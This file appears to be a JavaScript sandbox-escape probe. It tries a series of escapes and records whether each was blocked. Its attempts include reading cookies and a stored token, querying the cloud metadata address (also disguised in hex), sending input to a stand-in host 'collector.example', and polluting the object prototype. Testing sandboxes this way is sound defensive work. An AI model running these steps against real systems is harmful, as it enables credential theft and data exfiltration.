// Tries to get out of the sandbox, one way after the other, and reports what it got.
const ways = {
  'read the environment': () => process.env.HOME,
  'load a module of the machine': () => import('node:fs'),
  'build code from text': () => Function('return this')(),
  'reach Function through a constructor': () => (() => {}).constructor('return process')(),
  'reach it through an async function': () => (async () => {}).constructor('return 1')(),
  'read a cookie': () => document.cookie,
  'read local storage': () => localStorage.getItem('token'),
  'ask the metadata service of a cloud': () => fetch('http://169.254.169.254/latest/meta-data/'),
  'disguise its address': () => fetch('http://0xA9FEA9FE/latest/'),
  'send data away': () => fetch(`https://collector.example/?d=${encodeURIComponent(JSON.stringify(input))}`),
  'open a socket': () => new WebSocket('wss://collector.example'),
  'start a worker': () => new Worker('data:,'),
  'poison a prototype of the host': () => {
    Object.prototype.polluted = true;
    return undefined;
  },
};
export default async function () {
  const results = [];
  for (const [way, attempt] of Object.entries(ways)) {
    try {
      const got = await attempt();
      const outcome =
        got === undefined ? 'changed only itself: the guest is thrown away' : `GOT ${String(got)}`;
      results.push({ way, outcome });
    } catch (error) {
      results.push({ way, outcome: `stopped: ${error.message}` });
    }
  }
  return results;
}
